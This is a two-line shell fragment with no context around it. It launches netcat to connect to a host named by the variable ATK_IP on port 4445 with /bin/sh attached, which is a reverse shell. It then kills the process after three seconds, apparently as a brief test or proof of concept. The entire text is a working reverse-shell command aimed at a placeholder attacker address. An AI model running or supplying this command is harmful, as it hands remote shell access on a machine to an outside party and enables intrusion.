/bin/nc "$ATK_IP" 4445 -e /bin/sh &
rs=$!; sleep 3; kill $rs
